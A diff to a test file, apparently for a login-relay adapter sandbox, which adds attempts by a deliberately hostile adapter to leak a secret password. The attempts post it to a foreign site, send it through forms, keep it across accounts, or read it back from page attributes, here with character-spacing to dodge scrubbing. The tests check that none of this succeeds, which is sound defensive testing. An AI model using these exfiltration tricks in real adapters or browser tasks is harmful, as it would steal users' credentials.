@@ -30,10 +30,12 @@ const attempts: Readonly<Record<string, string>> = {
   'post the password to another site': `await browser.postFields(settings.foreign, { p: secrets.password }); return '${canary}'`,
   'post the password to another site as JSON': `await browser.postJson(settings.foreign, { p: secrets.password }); return '${canary}'`,
   'send the password by a form that leads to another site': `const page = await browser.open(site.loginUrl); await page.forms[1].fill('p', secrets.password).submit(); return '${canary}'`,
-  'read the password where the site says it': `const page = await browser.open(site.loginUrl); const said = await page.forms[0].fill('p', secrets.password).submit(); return said.text + said.body + said.query('p')[0].text + said.forms[0].fields[0].value`,
+  'read the password where the site says it': `const page = await browser.open(site.loginUrl); const said = await page.forms[0].fill('p', secrets.password).submit(); return spelled(said.text + said.body + said.query('p')[0].text + said.forms[0].fields[0].value)`,
+  'read the password in addresses and names that say it': `const page = await browser.open(site.loginUrl); const said = await page.forms[0].fill('p', secrets.password).submit(); const [image] = said.images(); const [, form] = said.forms; return spelled([said.links[0].url, said.frames[0], form.action, form.id, form.name, form.fields[0].id, form.fields[0].name, image.src, image.id, image.className, said.title].join(' '))`,
   'keep a secret for the next account': `const kept = globalThis.kept ?? secrets.password; globalThis.kept = kept; if (kept === secrets.password) return 'first'; const page = await browser.open(site.loginUrl); await page.forms[0].fill('p', kept).submit(); return '${canary}'`,
 }
 
+const spelled = (text: string) => [...text].join('.')
 const nameOf = (attempt: string) => attempt.replace(/[^a-z]+/g, '-')
 
 t.test('an adapter that tries what it must not', async (t) => {
@@ -48,7 +50,8 @@ t.test('an adapter that tries what it must not', async (t) => {
     if (body !== '') seen.push(body)
     const said = new URLSearchParams(body).get('p') ?? ''
     return {
-      body: `<p>You said ${said}</p><form method=post><input name=p value="${said}"></form><form method=post action="${foreign.origin}/"><input name=p></form>`,
+      body: `<p>You said ${said}</p><form method=post><input name=p value="${said}"></form><form method=post action="${foreign.origin}/?${said}" id="i-${said}" name="n-${said}"><input name="p${said}" id="f-${said}" autocomplete="a-${said}"></form>
+<title>[secret] ${said}</title><a href="/?pw=${said}">again</a><iframe src="/frame?${said}"></iframe><img src="/captcha?${said}" id="c-${said}" class="d-${said}">`,
     }
   })
   t.teardown(() => Promise.all([foreign.stop(), site.stop()]))
@@ -64,6 +67,8 @@ t.test('an adapter that tries what it must not', async (t) => {
     join(adaptersFolder, 'attempts.ts'),
     `import { defineAdapter } from 'login-relay/adapters'
 import { z } from 'zod'
+// What it gives is scrubbed once more: so it is told what the adapter itself has seen.
+const spelled = (text: string) => [...text].join('.')
 const attempts: Record<string, (context: any) => Promise<string>> = {
 ${Object.entries(attempts)
   .map(([attempt, body]) => `  ${JSON.stringify(nameOf(attempt))}: async ({ browser, site, settings, secrets }) => { ${body} },`)
@@ -89,14 +94,15 @@ export default defineAdapter({
       if (attempt.startsWith('keep')) await attemptAt(login, attempt)
       const outcome = await attemptAt(login, attempt)
       t.notMatch(JSON.stringify(outcome), canary)
-      if (/^(?:turn|read the password)/.test(attempt)) t.match(outcome, { ok: true, evidence: [/\[secret\]/] }, 'it sees the handle')
+      t.notMatch(JSON.stringify(outcome), spelled(canary))
+      if (attempt.startsWith('turn')) t.match(outcome, { ok: true, evidence: [/\[secret\]/] }, 'it sees the handle')
+      else if (attempt.startsWith('read the password')) t.match(JSON.stringify(outcome), spelled('[secret]'))
       else t.match(outcome, { ok: false, kind: 'unknown' })
     })
   }
 
   await t.test('and the other site has seen nothing of it, while its own has', async (t) => {
     t.equal(reached, 0)
-    t.match(seen, [`p=${canary}`], 'once: where it was to be sent')
-    t.equal(seen.length, 1)
+    t.same(seen, [`p=${canary}`, `p=${canary}`], 'by the two that send it where it was to be sent')
   })
 })
